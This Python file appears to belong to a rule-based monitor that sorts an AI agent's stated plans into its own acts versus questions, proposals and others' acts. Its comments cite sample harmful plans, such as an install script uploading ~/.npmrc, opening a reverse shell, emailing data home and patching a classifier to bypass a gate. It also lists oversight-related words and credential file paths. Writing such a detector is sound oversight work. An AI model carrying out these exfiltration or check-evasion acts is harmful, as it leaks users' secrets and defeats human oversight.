_GATES = words("after once when if")
_ADDRESSEE = words("you user human operator")
_DECIDING = words("decide decides choose chooses pick picks determine determines")
# "decide together which to archive": how or when the choice is made, between the verb and its question
_DECIDING_HOW = words("together jointly later first ourselves yourself collectively")
_APPROVING = words("confirm confirms approve approves okay ok")
_GATE_ENDS = words("it this that them first")


_JOINERS = words("and or then")
_THEIR_TIME = words("before until after once if when whenever unless")
# "before anyone applies them", "until someone merges it": a time told by another's act, not the agent's
# ("before anything goes out": a time told by what happens to things, not an act of the agent's)
_OTHERS = words("anyone anybody someone somebody everyone everybody reviewers teammates they "
                "anything something everything")


# "test what happens if we run X": the question is answered by doing X, an experiment, not a question
_TRYING = words("test try see")
_HAPPENS = words("happens happen breaks break")


_DETERMINERS = words("the our its their your my")
_REVIEWERS = words("team teams reviewer reviewers maintainer maintainers")


def _experiment(cur: list[Tok], rest: list[Tok]) -> bool:
    seq = [t.low for t in [*cur[-3:], *rest[:3]]]
    verbs = [t for t in cur if _is_verb(t)]
    return bool(verbs) and verbs[-1].lem in _TRYING and any(
        seq[j] == "what" and seq[j + 1] in _HAPPENS and seq[j + 2] in ("if", "when")
        for j in range(len(seq) - 2)
    )


def _asks(cur: list[Tok], after_command: bool = False) -> bool:
    """Does the clause so far end in a question-taking verb ("checking", "asking the user")?"""
    if (len(cur) >= 2 and cur[-2].low == "to" and cur[-1].kind == "word" and cur[-1].lem in QUESTION_VERBS
            and (any(_is_verb(t) for t in cur[:-2])
                 or (after_command and all(t.low in _JOINERS for t in cur[:-2])))):
        # "reading session.ts to see how ...", "pulling up the issue to see which release ...": the
        # question after a purpose of finding out is asked, not done; the act before it is judged
        # (with no verb before it, what the hint does is still to be read from the whole sentence,
        # unless the words follow a quoted command, which is the act: "`df -h` to see what's filling")
        return True
    verbs = [t for t in cur if _is_verb(t)]
    return bool(verbs) and verbs[-1].lem in QUESTION_VERBS and len(cur) - cur.index(verbs[-1]) <= 4


# Verbs of saying: their "that ..." clause is what is said ("mentioning that the token was rotated").
SAYING = words(
    "mention mentions mentioning mentioned say says saying note notes noting noted explain explains "
    "explaining state states stating comment comments commenting reply replying answer answering "
    "write writes writing report reporting"
)
_FIRST_PERSON = words("i i'm i'll i've we we're we'll we've let's now")
_ELSEWHERE = SHARED_PLACES | MARKERS.exfil_destination


# "since the cleanup script now deletes old logs": a reason whose subject is something other than the
# agent or what the agent just named ("it", "this") says what that thing does or did
_CAUSES = words("since because")
_ANAPHORS = words("it it's its they they're them he she you")
_DEMONSTRATIVES = words("this that these those")


def _told_of_another(subject: Tok | None, after: Tok | None) -> bool:
    """The words after "since" or "because" open with a subject other than the agent or what the agent
    just named: a noun, or "this"/"that" as a determiner ("this PR"), not a pronoun ("since it ...")."""
    if subject is None or subject.kind != "word" or _is_verb(subject) or subject.low in _FIRST_PERSON:
        return False
    if subject.low in _DEMONSTRATIVES:
        return after is not None and after.kind == "word" and not _is_verb(after)
    return subject.low not in _ANAPHORS


# "so the VP can look at it", "so fork bombs can't take it down": after "so", a subject other than the
# agent and a modal of ability say what the act lets others do (or keeps them from doing). What that
# subject then does or what becomes of it is no act of the agent's; only a purpose that is itself the
# harm (hiding from oversight, getting past a guard: oversight_purpose.py, _CONCEALING) is judged there.
_AGENT_SUBJECTS = words("i i'm i'll i've i'd we we're we'll we've we'd let's")
_OUTCOME_MODALS = words("can can't cannot could couldn't able")


def _outcome_subject(rest: Sequence[Tok]) -> bool:
    """The words after "so" open with a subject other than the agent, then within three words a modal of
    ability: "so (that) the customer can debug", "so a fork bomb can't take it down" say what someone
    else is then able to do. A change of state ("so the site stops serving customers") is the act's own
    effect, judged; so is a bare verb right after "so" ("so delete it") or the agent as subject ("so I
    can email it home")."""
    words_ = [t for t in rest[:6] if t.kind == "word"]
    if words_ and words_[0].low == "that":
        words_ = words_[1:]
    first = words_[0] if words_ else None
    if first is None or first.low in _AGENT_SUBJECTS or (_is_verb(first) and first.low == first.lem):
        return False
    return any(t.low in _OUTCOME_MODALS for t in words_[1:4])


# What makes an outcome a check's: "so the gate sees it as approved", "so the scans stop interrupting it".
# Getting past a check is the harm itself, whatever the act before it was.
_CHECKS = words("gate gates guard guards check checks scan scans scanner scanners review reviews reviewer "
                "reviewers approval approvals approver approvers proxy proxies firewall filter filters edr "
                "antivirus monitor monitors monitoring alert alerts alerting audit auditor auditors "
                "classifier detector detection limiter limit limits quota quotas policy waf hook hooks "
                "dongle security compliance sandbox oversight")
_BACK_REFERENCES = words("it it's they they're this that these those")


def _outcomes_after_acts(clauses: list[Clause]) -> list[Clause]:
    """An outcome is set aside only when it tells what a read act leads to, for someone or something else.
    It is judged as a purpose when no clause before it names an act the reader knows ("bypassing the gate
    so the release goes out": the reader knows no act but the outcome's), when its subject points back to
    what the agent acts on ("patching the classifier so it returns go": what the agent makes it do), or
    when it speaks of a check, a gate or a limit (getting past one is the harm)."""
    out: list[Clause] = []
    for n, c in enumerate(clauses):
        if c.role == "outcome":
            before = [t for d in clauses[:n] if d.role in ("main", "coordinate") for t in d.tokens]
            subject = next((t for t in c.tokens if t.kind == "word" and t.low != "that"), None)
            if (not _frame(before).verbs or (subject is not None and subject.low in _BACK_REFERENCES)
                    or any(t.low in _CHECKS or t.obj is Obj.SECURITY for t in c.tokens)):
                c = Clause(c.tokens, "purpose")
        out.append(c)
    return out


def _asks_first(cur: list[Tok]) -> bool:
    """ "Asking the user (to confirm) before I …": what comes after "before" waits for the answer.
    Asking the user to do something else first ("to log off before I drop the database") gates
    nothing: the act after it is still done."""
    at = next((i for i, t in enumerate(cur) if t.lem in ASK_VERBS), None)
    if at is None or not any(t.low in ASKED_FOR for t in cur):
        return False
    return not any(_is_verb(t) and (t.lem or t.low) not in _APPROVING for t in cur[at + 1:])


_UNDERTAKING = words("doing touching changing running trying")
_ANYTHING = words("anything something any")
_WILL = words("i'll we'll will")


def _approval_asked(clauses: list[Clause], cur: list[Tok], role: str) -> bool:
    """ "Asking the user to confirm before I run ...": the clause before this purpose asks the user,
    and this one says for what (confirm, approve), so what comes after "before" waits for the answer."""
    if role != "purpose" or not clauses:
        return False
    asking = clauses[-1].tokens
    return (any(t.lem in ASK_VERBS for t in asking) and any(t.low in _ADDRESSEE for t in asking)
            and any((t.lem or t.low) in _APPROVING for t in cur))


def _asked_whether(clauses: list[Clause], role: str) -> bool:
    """ "Asking in #sre-help whether anyone still uses the cluster before I tear it down": a question put
    to people (the clause before this one asks it), then "before": the act waits for their answer, as
    after "asking the user before I …"."""
    return role == "question" and bool(clauses) and any(t.lem in ASK_VERBS for t in clauses[-1].tokens)


def _asked_about_later(cur: list[Tok], i: int, tokens: list[Tok]) -> bool:
    """ "publishing is a separate step I'll ask about": the act named as the subject of "is", then
    "I'll ask about" closing the clause; the act is a topic for the user, not done now."""
    nxt = tokens[i + 1] if i + 1 < len(tokens) else None
    end = tokens[i + 2] if i + 2 < len(tokens) else None
    return (len(cur) >= 3 and cur[-1].low in _WILL and any(t.low in ("is", "are") for t in cur)
            and not any(t.low in ("and", "then") for t in cur)
            and nxt is not None and nxt.low in ("about", "first")
            and (end is None or end.kind == "punct"))


# A change put up for review: it lands only when someone merges it
PROPOSALS = words("pr prs mr mrs proposal changeset")
# People other than the agent whose act a clause may tell ("the release manager merges it")
_OTHER_PEOPLE = words("manager managers reviewer reviewers owner owners maintainer maintainers lead leads "
                      "approver approvers team teammate teammates colleague colleagues human operator user "
                      "someone somebody they")


_MODALS = words("will would can could may might should shall")


def _proposal_named(lows: Sequence[str]) -> bool:
    """The words end in, or hold, a change put up for review ("a PR", "a pull request", "an MR")."""
    pairs = set(itertools.pairwise(lows))
    return bool(set(lows) & PROPOSALS) or bool(pairs & {("pull", "request"), ("merge", "request"),
                                                       ("pull", "requests"), ("merge", "requests")})


# Verbs of advice: what they are followed by is for the one advised to do
_SUGGESTING = words("suggest suggests suggesting recommend recommends recommending advise advises advising "
                    "urge urges urging")
_TELLING = _SUGGESTING | words("tell tells telling remind reminds reminding")
_ADVISED = words("the user users you them him her we they operator owner team human")


def _advice_at(tokens: Sequence[Tok], i: int) -> int:
    """Where the advised act starts, when the word at `i` advises one: "suggest rotating it", "recommend
    that we rotate it", "telling the user to rotate it"; 0 otherwise (or when the agent is the one
    advised to act: "suggest I rotate it" is still its plan)."""
    if tokens[i].low not in _TELLING:
        return 0
    j = i + 1
    if j < len(tokens) and tokens[j].low == "that":
        j += 1
    start = j
    while j < len(tokens) and tokens[j].low in _ADVISED:
        j += 1
    named = j > start
    if j < len(tokens) and tokens[j].low == "to" and named:
        j += 1
    if j >= len(tokens) or tokens[j].kind != "word" or not _is_verb(tokens[j]):
        return 0
    if not named and (tokens[i].low not in _SUGGESTING or not tokens[j].low.endswith("ing")):
        return 0  # "telling rotating": no one told; "suggest rotate": not advice said this way
    return j


_REPLACING = words("overwrite replace rewrite")
# Files under /etc whose content decides who logs in or what runs as root: never "one service's config"
_AUTH_CONFIG = re.compile(r"(?i)/etc/(?:passwd|shadow|group|gshadow|sudoers|pam\.d|security|ssh|ld\.so|"
                          r"profile|bash\.|environment|cron|systemd|init|rc\.|hosts\.(?:allow|deny))")


def _one_service_config(frame: Frame, kinds: set[Obj]) -> bool:
    """The only system thing named is one configuration file of a service under /etc (a dotted file
    name: `nginx/nginx.conf`, `redis/redis.conf`)."""
    system = [t for t in frame.paths if t.obj is Obj.SYSTEM]
    return (kinds & {Obj.SYSTEM, Obj.HOME} == {Obj.SYSTEM} and len(system) == 1
            and set(frame.objects.get(Obj.SYSTEM, ())) <= {system[0].raw}
            and system[0].raw.startswith("/etc/") and "." in system[0].raw.rsplit("/", 1)[-1]
            and not _AUTH_CONFIG.match(system[0].raw))


def _after_proposal(cur: Sequence[Tok], clauses: Sequence[Clause]) -> bool:
    """The words so far end in a proposal ("opening a PR"), or, when an aside has just closed ("a PR, not
    applying it, that ..."), the clause before the aside did: a relative word then opens what the proposal
    would change, whatever its verb."""
    if cur:
        return _proposal_named([t.low for t in cur[-2:]])
    return len(clauses) >= 2 and _proposal_named([t.low for t in clauses[-2].tokens[-2:]])


def _anothers_act(tokens: Sequence[Tok], after_theirs: bool = False,
                  people: frozenset[str] = _OTHER_PEOPLE) -> bool:
    """ "the release manager merges it", "someone on the SRE team will merge it": the clause opens with
    someone else (one of `people`) as the subject of a present-tense or modal verb; what it tells is their
    act, not the agent's ("... and merges it" right after such a clause goes on with that subject)."""
    if not tokens or any(t.low in _FIRST_PERSON for t in tokens):
        return False
    if after_theirs and _third_person(tokens[0]):
        return True
    if not (tokens[0].low in DETERMINERS or tokens[0].low in people):
        return False
    for j, t in enumerate(tokens[:8]):
        if t.kind != "word":
            return False
        if t.low in _MODALS or (j and _third_person(t)):
            # ("the release manager": a verb-noun inside the subject names who)
            return any(u.low in people for u in tokens[:j])
    return False


# What acts on its own schedule once a change lands: "CI publishes later", "the release workflow will tag it"
_AUTOMATION = words("ci cd pipeline pipelines workflow workflows automation bot")


# Who else may act: a person by role, named by up to two words before it ("the support lead", "the
# billing owner", "the maintainer"), or a pronoun for them.
_PERSON_WORDS = _OTHER_PEOPLE | _REVIEWERS | _ADDRESSEE | words(
    "admin admins engineer engineers marketing sales finance hr legal support qa accounting")
_THEIR_MODALS = words("can could will may might")


def _someone_elses_turn(tokens: Sequence[Tok], i: int) -> int:
    """How many words open someone else's act at tokens[i], 0 when none: "for the support lead to send",
    "so the maintainer can upload", "so they can rotate it". What follows is theirs to do later, not the
    agent's act; a passive ("so they can be deleted") is still the agent's, and so is an act without a
    person ("for the script to run")."""
    w = tokens[i].low
    if w not in ("for", "so"):
        return 0
    j = i + 1
    if j < len(tokens) and tokens[j].low in _DETERMINERS:
        j += 1
    for k in range(j, min(j + 3, len(tokens))):
        if tokens[k].kind != "word":
            return 0
        if tokens[k].low in _PERSON_WORDS:
            while k + 1 < len(tokens) and tokens[k + 1].low in _PERSON_WORDS:
                k += 1  # "the HR lead", "the QA team": the person is the last of them
            after = tokens[k + 1:k + 3]
            if len(after) < 2 or after[1].kind != "word" or after[1].low == "be":
                return 0
            link = after[0].low
            if (w == "for" and link == "to") or (w == "so" and link in _THEIR_MODALS):
                return k + 2 - i  # past "to"/"can": their verb opens their clause
            return 0
    return 0


# A written proposal, which says what someone may decide to do (the act is theirs, later, and judged then).
_PLANS = words("proposal proposals plan rfc recommendation recommendations")
_APPROVAL_ENDS = words("approval review sign-off signoff feedback comments decision")
_HANDING = words("send share forward email hand pass")


def _proposal_for(cur: Sequence[Tok], w: str, nxt: Tok | None) -> bool:
    """ "a proposal to change the dunning schedule", "a proposal in docs/ for deleting the abandoned repos":
    what follows "to" or "for" is what the proposal would do, once someone decides it."""
    return (w in ("to", "for") and _is_verb(nxt) and any(t.low in _PLANS for t in cur[-4:])
            and not any(t.low in _FIRST_PERSON for t in cur))


def _proposal_sent_for_approval(clause: Clause, clauses: Sequence[Clause]) -> bool:
    """ "… and sending it to the billing owner for approval" after a proposal is written: the proposal
    goes to a colleague who decides; nothing else leaves, nothing changes."""
    lows = [t.low for t in clause.tokens]
    if not lows or clause.role not in ("coordinate", "main") or lows[-1] not in _APPROVAL_ENDS:
        return False
    if not any(t.lem in _HANDING for t in clause.tokens) or not set(lows) & (_PERSON_WORDS - _ADDRESSEE):
        return False
    if any(t.obj in (Obj.SECRET, Obj.DATA, Obj.PAYMENT) for t in clause.tokens):
        return False
    return any(t.low in _PLANS for c in clauses for t in c.tokens)


def _third_person(t: Tok) -> bool:
    """ "merges", "reviews": a verb's -s form, said of someone else."""
    return _is_verb(t) and t.low != t.lem and t.low.endswith("s")


_MEANS_WORDS = words("by via through")


def _deciding(cur: list[Tok]) -> bool:
    """The clause so far ends in a verb of choosing, maybe with how the choice is made after it
    ("so we can decide together"): a question follows, not an act."""
    ends = [t.low for t in cur[-2:]]
    return ends[-1] in _DECIDING or (len(ends) == 2 and ends[0] in _DECIDING and ends[1] in _DECIDING_HOW)


def _is_verb(tok: Tok | None) -> bool:
    return tok is not None and tok.kind == "word" and tok.lem in VERB_ACT


_ALTERNATIVES = words("or nor")


def _refuses_last_verb(cur: list[Tok]) -> bool:
    """The clause so far ends in a refused verb ("I won't publish"): an "or" after it offers a second
    verb under the same refusal, not a second act."""
    return len(cur) >= 2 and cur[-2].low in MARKERS.negation and _is_verb(cur[-1])


_ABLE = words("can")  # "whether we could drop …" asks whether it would be wise: still asked, not tried


def _own_ability(tokens: Sequence[Tok]) -> list[Tok]:
    """The act a question asks whether the agent itself can do ("[whether] I can open a reverse shell"),
    or [] when the question is about something else ("whether the detection rule fires")."""
    lows = [t.low for t in tokens[:3]]
    if len(lows) >= 3 and lows[0] in ("i", "we") and lows[1] in _ABLE:
        return list(tokens[2:])
    return []


_OBJECT_PRONOUNS = words("it them")


# -ing words that are not verbs: pronouns of quantity and nouns ("everything in it is committed")
_ING_NOUNS = words("everything nothing something anything thing things string strings morning evening "
                   "during ceiling building buildings setting settings")


def _unknown_act(tokens: Sequence[Tok]) -> str:
    """The clause opens with an -ing word the reader has no verb for ("Burning it all down"): an act
    whose effect is not known; "" when the opening word is a known verb, a noun or anything else."""
    first = next((t for t in tokens if t.kind == "word" and t.low not in _JOINERS), None)
    if first is None or not first.low.endswith("ing") or len(first.low) < 6 or first.low in _ING_NOUNS:
        return ""
    if _is_verb(first) or first.lem in VERB_ACT or first.low in VERB_ACT:
        return ""
    return first.low


def _points_back(rest: Sequence[Tok]) -> bool:
    """The words up to the clause's end name what came before by a pronoun ("connecting to it")."""
    for t in rest:
        if t.kind == "punct":
            return False
        if t.low in _OBJECT_PRONOUNS:
            return True  # "it", "them": the thing itself ("its log" is something else of it)
    return False


def segment(tokens: list[Tok], after_command: bool = False) -> list[Clause]:
    """Split the words into clauses with their roles; `after_command` says the words follow a quoted
    command the hint runs, so that command is the act a purpose clause opening them belongs to."""
    clauses: list[Clause] = []
    cur: list[Tok] = []
    role = "main"
    content = False
    main_has_text = False

    opener = ""

    def close(next_role: str, next_opener: str = "") -> None:
        nonlocal cur, role, opener
        if role == "proposed" and next_role == "purpose":
            next_role = role  # "a PR that relaxes the CSP to allow the new domain": what it is for
        if cur:
            kept = "content" if content and role in ("relative", "purpose") else role
            clauses.append(Clause(cur, kept, opener))
        elif role == "question":
            return  # "whether to truncate ...": the question goes on
        cur, role, opener = [], next_role, next_opener

    skip_to = 0
    for i, tok in enumerate(tokens):
        if i < skip_to:
            continue
        nxt = tokens[i + 1] if i + 1 < len(tokens) else None
        if tok.kind == "punct" and tok.raw in ",;":
            close("coordinate")
            content = False
            continue
        if tok.kind == "word":
            w = tok.low
            if (w in _MEANS_WORDS and role in ("question", "answered") and nxt is not None
                    and nxt.low.endswith("ing") and nxt.kind == "word"):
                # "checking whether the backups are needed by deleting them": the question is answered by
                # doing the act after "by"; that act is done. A means the reader has no verb for
                # ("whether the reverse shell still works by connecting to it") uses what the question
                # names: the question is read as done too. A means the reader has no verb for, with an
                # object of its own ("by replaying the sample"), stays part of what is asked.
                if _points_back(tokens[i + 2:]):
                    role = "coordinate"
                elif not _is_verb(nxt):
                    cur.append(tok)
                    continue
                close("coordinate")
                continue
            if (w == "by" and role in ("main", "coordinate") and cur and nxt is not None
                    and nxt.kind == "word" and nxt.low.endswith("ing") and _is_verb(nxt)
                    and any(t.obj is Obj.REPO for t in cur)):
                # "tidying the repo by deleting the notebooks/ folder": the means names what is done, to its
                # own object; the repository is where it happens, not what is deleted
                close("coordinate")
                continue
            if w in ("before", "until") and (_asks_first(cur) or _approval_asked(clauses, cur, role)
                                             or _asked_whether(clauses, role)):
                close("question")  # gated by a human: not done now
                continue
            after = tokens[i + 2] if i + 2 < len(tokens) else None
            end = tokens[i + 3] if i + 3 < len(tokens) else None
            restraint = _restraint(tokens, i)
            if restraint:
                close("coordinate")  # "... before doing anything": a restraint, no act of its own
                skip_to = i + restraint
                continue
            if tok.lem == "ask" and _asked_about_later(cur, i, tokens):
                role = "question"  # "publishing is a separate step I'll ask about": asked, not done now
                close("coordinate")
                skip_to = i + 2
                continue
            if (w in _GATES and nxt is not None and nxt.low in _ADDRESSEE and after is not None
                    and (after.lem or after.low) in _APPROVING and cur
                    and (end is None or end.kind == "punct" or end.low in _GATE_ENDS)):
                role = "question"  # "I'll delete only after you confirm": gated by a human, not done now
                close("question")
                continue
            advised = _advice_at(tokens, i)
            if advised:
                # "suggest rotating it", "telling the user to rotate the key": the act is advice, the
                # user's to take or not; the agent's own act after it (", then rotating it") is judged
                cur.extend(u for u in tokens[i:advised] if u.low not in ("to", "that"))
                close("theirs")
                skip_to = advised
                continue
            if (w == "for" and nxt is not None and nxt.low in _ADDRESSEE and after is not None
                    and after.low == "to"):
                close("theirs")  # "the command for you to run": the user's act, not the agent's
                skip_to = i + 3  # past "you to"
                continue
            turn = _someone_elses_turn(tokens, i) if cur else 0
            if turn:
                close("theirs")  # "leaving it in drafts for the support lead to send": the lead's act
                skip_to = i + turn
                continue
            if _proposal_for(cur, w, nxt):
                close("proposed")  # "a proposal for deleting the abandoned repos": decided later, by others
                continue
            if (w in _ADDRESSEE | _REVIEWERS and nxt is not None and nxt.low in _DECIDING
                    and after is not None and after.low in ("whether", "if")):
                # "the user decides whether to share it": the act after it is theirs to do or not
                close("theirs")
                skip_to = i + 4 if end is not None and end.low == "to" else i + 3
                continue
            if (w == "for" and nxt is not None and nxt.low in _DETERMINERS and after is not None
                    and (after.obj is Obj.ROLE or after.low in _ADDRESSEE or after.lem in _REVIEWERS)
                    and end is not None and end.low == "to" and cur):
                close("theirs")  # "tag them for the owners to review": the owners' act, not a role grant
                skip_to = i + 4  # past "the owners to"
                continue
            if w == "now" and nxt is not None and nxt.low == "that" and cur:
                close("reason")  # "… now that the upload finished": a condition already met, not an act
                skip_to = i + 2
                continue
            if w in _CAUSES and cur and _told_of_another(nxt, after):
                close("cause")  # "since this PR removes that API": why, told of something else
                continue
            if w in _THEIR_TIME and nxt is not None and nxt.low in _OTHERS and cur:
                # "to preview the changes before anyone applies them", "alerted if anyone tries it": their
                # act, later or on a condition, with its own subject
                close("theirs")
                continue
            if w == "so" and cur and _outcome_subject(tokens[i + 1:]):
                close("outcome")  # "… so the customer can debug": what the act is for, told as its result
                continue
            if w in _BOUNDARY_WORDS or (
                w in ("and", "or") and ((_is_verb(nxt) and not _listed_noun(tokens, i + 1)
                                         and not _bare_verb(cur))
                                        or (nxt and nxt.low == "then"))
                and not (w == "or" and _refuses_last_verb(cur))  # "won't publish or share it": one refusal
            ):
                close("coordinate" if w in ("then", "and", "or") else "purpose", w)
                if w in ("then", "and", "or"):
                    content = False
                continue
            if (
                w == "to" and _is_verb(nxt) and nxt is not None and nxt.lem not in OBJ_CLASS
                and not (cur and cur[-1].low in MARKERS.negation)  # "what not to do": one refusal
                and not (role == "question" and len(cur) <= 2)  # "which ones to delete": still asked
                and not (cur and cur[-1].low in ("going", "about"))  # "going to run …": the act itself
                # "from block to count mode": a value changed into another, not a purpose
                and not any(u.low == "from" for u in cur[-3:])
            ):
                close("purpose")
                continue
            if (
                w == "for"
                and nxt is not None
                and nxt.kind == "word"
                and nxt.low.endswith("ing")
                and _is_verb(nxt)
            ):
                if cur and cur[-1].obj is Obj.TEXT:
                    # "the runbook for wiping a compromised host": what the text is about, read as content
                    content = True
                    main_has_text = True
                    close("relative")
                else:
                    close("purpose")
                continue
            if (
                len(cur) >= 2
                and cur[-1].low in PRINCIPAL
                and any(lemma(u.low) in TELL_VERBS - ASK_VERBS for u in cur[-3:-1])
                and not (nxt is not None and nxt.low in (",", ";"))
                and w not in _INTERROGATIVES | _BOUNDARY_WORDS | {"to", "for", "and", "or"}
                and not any(u.low in _ELSEWHERE | _FIRST_PERSON for u in tokens[i:])  # "... in the public
                # Slack channel", "... that I'm dropping the prod DB now": a place, or the agent's own act
            ):
                cur.append(tok)
                close("content")  # "telling the user the token has expired": what is told
                continue
            if (w == "that" and cur and cur[-1].kind == "word" and cur[-1].lem in _CHECKED_THAT
                    and not _tested_by_running(tokens[i + 1:])):
                # "checking that ~/.aws/config sets the region", "verifying that the cron job deletes old
                # logs": the claim a check tests, as "checking whether ..." asks it; nothing in it is done
                close("question")
                continue
            asked = w in _INTERROGATIVES or tok.lem in _INTERROGATIVES  # "what's filling": a contraction
            if asked and _asks(cur, after_command) and not _experiment(cur, tokens[i:]):
                # "checking whether we could drop ...": what is asked, not done; after a quoted command
                # ("`du -sh /var/log/*` to see what's filling the disk") the command is run to answer it
                close("question" if _asks(cur) else "answered")
                continue
            if cur and _deciding(cur) and (w in _INTERROGATIVES or w == "on"):
                # "so we can decide which to prune", "before we decide on publishing": a choice still to
                # be made; what it is about is done, if ever, once it is made (and judged then)
                close("question")
                continue
            if w in ("that", "which") and cur and nxt is not None and nxt.lem in _CONTAINING and not any(
                _is_verb(t) and t.lem in SAYING for t in cur
            ):
                continue  # "the export that contains the passwords": what it holds goes with it
            if (w in ("that", "which") and nxt is not None and nxt.kind == "word"
                    and _after_proposal(cur, clauses)):
                # "a PR that bumps the image tag in the prod manifests": what the proposal would change,
                # once someone merges it; opening it changes nothing
                close("proposed")
                continue
            if w in _RELATIVE_WORDS and cur:
                said = any(t.low in SAYING for t in cur) and not any(
                    u.low in _FIRST_PERSON for u in tokens[i:]
                )  # "explaining that X": X is what is said, unless it is "I'm now deleting ..."
                if any(t.obj in (Obj.CODE, Obj.PERSISTENCE) for t in cur) and not said:
                    # "a postinstall script that uploads ~/.npmrc": what the code the agent adds will
                    # do is what the agent makes happen, not text it writes
                    content = False
                elif any(t.obj is Obj.TEXT for t in cur) or said or main_has_text:
                    content = True
                    main_has_text = True
                close("relative")
                continue
        cur.append(tok)
        prev = tokens[i - 1] if i else None
        text_like = (
            tok.obj is Obj.TEXT
            or (prev is not None and COMPOUND_OBJECTS.get((prev.lem, tok.lem)) is Obj.TEXT)
            or (tok.lem in AUTHORED and any(t.lem in AUTHORING_VERBS for t in cur))
        )
        if text_like and role in ("main", "coordinate"):
            main_has_text = True
    close("coordinate")
    return _followed(clauses)


# "… and following its steps", "then doing it": what a text describes is then carried out
_FOLLOWING = words("follow following follows apply applying execute executing run running do doing")
_ITS_STEPS = words("its the these those their")
_STEPS = words("steps step instructions procedure procedures commands runbook playbook guide")


def _followed(clauses: list[Clause]) -> list[Clause]:
    """Content clauses read as acts when the hint then carries out what the text describes ("opening the
    runbook for wiping a host and following its steps on web-3"): the text's topic is then done."""
    lows = ["", *(t.low for c in clauses for t in c.tokens), "", ""]
    carried = any(a in _FOLLOWING and ((b in _ITS_STEPS and c in _STEPS) or b in ("it", "them"))
                  and before not in MARKERS.negation  # "not running it yet": refused
                  for before, a, b, c in zip(lows, lows[1:], lows[2:], lows[3:], strict=False))
    if not carried:
        return clauses
    return [Clause(c.tokens, "main") if c.role == "content" else c for c in clauses]


# Files that hold data rather than text a person edits: removing one is not an edit.
_DATA_SUFFIXES = tuple(f".{w}" for w in sorted(words(
    "csv tsv parquet db sqlite sqlite3 xlsx xls jsonl ndjson avro pkl pickle h5 npy npz bak dump gz "
    "zip tar tgz pem key p12 pfx kdbx orc feather arrow tfstate ckpt pt pth safetensors onnx")))
# Folders that hold what programs produced or people uploaded, not source: results of runs and
# checkpoints cost their compute again
_DATA_DIRS = words("data datasets uploads media storage backups backup exports dumps var db results runs "
                   "checkpoints")
_EDITED_KINDS = frozenset({Obj.CONTAINER, Obj.CODE, Obj.CODE_PART, Obj.TEXT, Obj.DATA, Obj.INFRA})
_MERGED = re.compile(r"\b(?:merged|squash-merged)\b")
_NOT_MERGED = re.compile(r"\b(?:not|never|isn't|wasn't|hasn't|un|nor)\s+(?:\w+\s+)?merged\b|\bunmerged\b")
_TRACKED = re.compile(r"\b(?:tracked|committed|in\s+git|version\s+control|in\s+this\s+commit)\b")


# The record of what real infrastructure exists: no build produces it again, whatever the hint says
_STATE_FILE = re.compile(r"(?:^|[\s/])(?:[\w.-]*\.tfstate(?:\.backup)?|pulumi\s+state|terraform\s+state)\b")


_RELEASES = words("release releases version tag")
_CUTTING = words("create cut make open")
_UNPUBLISHED = words("draft drafts unpublished prerelease pre-release notes changelog branch local locally")


def _published_release(frame: Frame) -> bool:
    """A release made, not drafted: "release" is what the verb makes, and nothing marks it a draft
    (or its notes, or a release branch)."""
    return "release" in frame.words and not frame.words & _UNPUBLISHED and not frame.negated


def _names_a_file(t: Tok) -> bool:
    """`src/app.py`, not `results/2025-runs/` (a folder: what is removed from it are its files) nor a
    file of data (`exports/q3.csv`)."""
    leaf = t.low.rstrip("/").rsplit("/", 1)[-1]
    parts = set(t.low.strip("./").split("/"))
    return (not t.low.endswith("/") and "." in leaf.lstrip(".") and not leaf.endswith(_DATA_SUFFIXES)
            and not parts & _DATA_DIRS)


def _edited_project_files(frame: Frame, ctx: Context, kinds: set[Obj], scope: list[str],
                          history: bool) -> str:
    """The project files a destroy verb edits ("" when it does more): every path named is a file of
    the checkout (not data, not a migration), nothing in production, customers' or secret, and a folder
    removed whole only when the hint says it is tracked by version control."""
    paths = frame.paths
    if not paths or ctx.prod or ctx.customer or ctx.external_dest or history or not kinds <= _EDITED_KINDS:
        return ""
    if scope and not frame.located_only and not all(_names_a_file(t) for t in paths):
        # "deleting all the files": a sweep, not an edit ("all the commented-out blocks in billing.py"
        # sweeps one file, which is an edit of it)
        return ""
    for t in paths:
        leaf = t.low.rstrip("/").rsplit("/", 1)[-1]
        parts = set(t.low.strip("./").split("/"))
        names = set(re.split(r"[^a-z0-9]+", t.low))
        if (t.path_class not in ("project", None) or parts & _DATA_DIRS or leaf.endswith(_DATA_SUFFIXES)
                or names & MARKERS.prod):
            return ""  # data, or the configuration production runs with
        place = (t.obj is Obj.CONTAINER and Obj.CONTAINER in frame.located_only) or _where_it_is(
            frame.order, t.low, paths)
        if ("." not in leaf or t.low.endswith("/")) and not ctx.tracked and not place:
            return ""  # a folder of its own, removed whole: its untracked files go with it
    if Obj.DATA in kinds and frame.words & WHOLE_DATASETS:
        return ""  # "the orders table in schema.sql" may be the database itself
    return ", ".join(t.raw for t in paths)


# Whose a profile can be when it is a record about them; a shell word before "profile" makes it a login
# script whoever owns it ("the deploy user's bash profile")
_PROFILE_OWNERS = words("candidate candidates applicant applicants user users customer customers employee "
                        "employees member members patient patients student students contact contacts client "
                        "clients speaker speakers donor donors author authors person people")
_LOGIN_SHELLS = words("bash zsh shell login fish powershell ksh tcsh csh")


def _someones_profile(tokens: Sequence[Tok], i: int) -> bool:
    """ "the speaker's conference profile": a person named in the three words before, no shell word."""
    before = [t.low.removesuffix("'s").removesuffix("'").removesuffix("’s") for t in tokens[max(0, i - 3):i]]
    return bool(set(before) & _PROFILE_OWNERS) and not set(before) & _LOGIN_SHELLS


def _where_it_is(order: Sequence[str], low: str, paths: Sequence[Tok]) -> bool:
    """ "removing the stray .gitkeep from assets/icons": the folder after "from" or "in" is where the
    removed file is, a file the hint names; "removing assets/icons" removes the folder, and "deleting the
    paths in src/" or "the stale notes from docs/" removes what the folder holds, unnamed."""
    named_file = any(t.low != low and "." in t.low.rstrip("/").rsplit("/", 1)[-1] for t in paths)
    return named_file and any(
        w == low and i > 0 and order[i - 1] in _FILE_PLACES for i, w in enumerate(order))


_FILE_PLACES = words("from in inside under within")
_DEPENDENCIES = words("package packages dependency dependencies dep deps gem gems crate crates library")
_HOST_WIDE = words("system global globally host server machine os apt yum dnf brew pacman essential")
_DATABASE_WORDS = words("database db redis postgres postgresql mysql mongo mongodb elasticsearch")
_LISTENING = words("bind listen expose serve publish")
# A listener left without a lock: no password, auth turned off
_NO_LOCK = re.compile(r"\b(?:without|no|with\s+no|disabling|disable|turning\s+off)\s+(?:a\s+|any\s+|the\s+)?"
                      r"(?:password|passwords|auth|authentication|requirepass|credentials)\b"
